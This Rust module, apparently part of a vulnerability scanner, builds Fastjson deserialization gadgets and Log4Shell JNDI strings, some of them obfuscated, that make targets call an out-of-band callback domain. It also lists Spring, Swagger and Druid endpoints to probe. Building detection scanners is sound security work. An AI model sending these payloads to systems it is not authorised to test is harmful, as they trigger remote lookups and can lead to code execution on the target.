use chrono::Utc;
use crate::models::ProbeId;

pub const FASTJSON_PREFIX: &str = "fjson";
pub const LOG4J_PREFIX: &str = "log4j";

/// Stands in for `{variant index}{probe domain}` inside a template.
const DOMAIN_SLOT: &str = "@D@";

const FASTJSON_TEMPLATES: &[&str] = &[
    r#"{"3ny8v4":{"@typ\x65":"com.alibaba.fastjson.JSONObject","98ko27":{"@typ\x65":"java.lang.AutoCloseable","@typ\x65":"com.mysql.jdbc.JDBC4Connection","hostToConnectTo":"@D@","portToConnectTo":3306,"info":{"user":"root","password":"123456","useSSL":"false","statementInterceptors":"com.mysql.jdbc.interceptors.ServerStatusDiffInterceptor","autoDeserialize":"true","NUM_HOSTS":"1"},"databaseToConnectTo":"mysql","url":""}}}"#,
    r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://@D@/jndi","autoCommit":true}"#,
    r#"{"name":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"x":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://@D@/Def","autoCommit":true}}"#,
    r#"{"name":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"f":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://@D@/Asd","autoCommit":true}}"#,
    r#"{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://@D@/sq","autoCommit":true}}"#,
    r#"{"hrg786":{"@t\x79\x70e":"Lcom.sun.rowse\x74\x2EJdbcRowSetImpl;","dataSourceName":"ldap://@D@/Sdf","autoCommit":true}}"#,
    r#"[{"@type":"java.lang.AutoCloseable","@type":"java.io.ByteArrayOutputStream"},{"@type":"java.io.ByteArrayOutputStream"},{"@type":"java.net.InetSocketAddress","address":null,"val":"@D@"}]"#,
    r#"[{"@type":"java.lang.Exception","@type":"com.alibaba.fastjson.JSONException","x":{"@type":"java.net.InetSocketAddress","address":null,"val":"@D@"}},{"@type":"java.lang.Exception","@type":"com.alibaba.fastjson.JSONException","message":{"@type":"java.net.InetSocketAddress","address":null,"val":"@D@"}}]"#,
    r#"{"name":{"@type":"java.lang.AutoCloseable","@type":"com.mysql.cj.jdbc.ha.LoadBalancedMySQLConnection","proxy":{"connectionString":{"url":"jdbc:mysql://@D@/test?autoDeserialize=true&statementInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&useSSL=false&user=yso_CommonsCollections5_calc"}}}}"#,
    r#"{"@type":"java.lang.AutoCloseable","@type":"com.mysql.cj.jdbc.ha.ReplicationMySQLConnection","proxy":{"@type":"com.mysql.cj.jdbc.ha.LoadBalancedConnectionProxy","connectionUrl":{"@type":"com.mysql.cj.conf.url.ReplicationConnectionUrl","masters":[{"host":""}],"slaves":[],"properties":{"host":"@D@","port":"3306","user":"yso_CommonsCollections4_calc","dbname":"dbname","password":"pass","queryInterceptors":"com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor","autoDeserialize":"true"}}}}"#,
    r#"{"@type":"java.net.Inet4Address","val":"@D@"}"#,
];

const LOG4J_TEMPLATES: &[&str] = &[
    "${jndi:rmi://@D@}",
    "${jndi:ldap://@D@}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://@D@}",
    "${jndi:ldap://${base64:dXNlcjE=}.@D@}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://@D@}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:rmi://@D@}",
    "${jndi:jdbc:ldap://@D@}",
    "${jndi:ldap://@D@/a}${::-}",
];

/// Paths tried by the Spring scanner when no path file exists yet.
pub const DEFAULT_SPRING_PATHS: &[&str] = &[
    "/actuator",
    "/actuator/health",
    "/actuator/info",
    "/actuator/env",
    "/actuator/mappings",
    "/swagger-ui.html",
    "/swagger-ui",
    "/swagger-ui/index.html",
    "/v3/api-docs",
    "/v2/api-docs",
    "/api-docs",
    "/swagger-resources/",
    "/swagger-resources/configuration/ui",
    "/swagger-resources/configuration/security",
    "/springfox-swagger-ui",
    "/webjars",
    "/druid/login.html",
    "/druid/",
    "/druid/index.html",
    "/druid/datasource.html",
    "/druid/sql.html",
    "/druid/uri.html",
    "/druid/session.html",
    "/druid/webapp.html",
    "/druid/filter.html",
    "/doc.html",
    "/knife4j",
    "/spring-ui.html",
    "/spring-ui",
    "/spring-resources",
    "/spring.json",
    "/spring",
];

/// `{prefix}{probe id}.{unix millis}.{oast domain}`
pub fn probe_domain(prefix: &str, probe_id: &ProbeId, oast_domain: &str) -> String {
    format!("{}{}.{}.{}", prefix, probe_id, Utc::now().timestamp_millis(), oast_domain)
}

fn expand(templates: &[&str], domain: &str) -> Vec<String> {
    templates
        .iter()
        .enumerate()
        .map(|(idx, template)| template.replace(DOMAIN_SLOT, &format!("{}{}", idx + 1, domain)))
        .collect()
}

pub fn fastjson_payloads(domain: &str) -> Vec<String> {
    expand(FASTJSON_TEMPLATES, domain)
}

pub fn log4j_payloads(domain: &str) -> Vec<String> {
    expand(LOG4J_TEMPLATES, domain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_probe_domain_layout() {
        let id = ProbeId::from("0123abcd");
        let domain = probe_domain(FASTJSON_PREFIX, &id, "x1y2.ceye.io");
        let parts: Vec<&str> = domain.split('.').collect();
        assert_eq!(parts[0], "fjson0123abcd");
        assert!(parts[1].parse::<i64>().is_ok());
        assert!(domain.ends_with(".x1y2.ceye.io"));
    }

    #[test]
    fn test_every_payload_carries_the_domain() {
        for payload in fastjson_payloads("d.example").iter().chain(log4j_payloads("d.example").iter()) {
            assert!(payload.contains("d.example"), "{}", payload);
            assert!(!payload.contains(DOMAIN_SLOT));
        }
    }

    #[test]
    fn test_variants_are_indexed() {
        let payloads = log4j_payloads("d.example");
        assert_eq!(payloads.len(), 8);
        assert_eq!(payloads[0], "${jndi:rmi://1d.example}");
        assert_eq!(payloads[7], "${jndi:ldap://8d.example/a}${::-}");
    }

    #[test]
    fn test_plain_fastjson_payloads_are_json() {
        let payloads = fastjson_payloads("d.example");
        assert_eq!(payloads.len(), 11);
        let parsed: serde_json::Value = serde_json::from_str(&payloads[1]).unwrap();
        assert_eq!(parsed["dataSourceName"], "rmi://2d.example/jndi");
    }
}
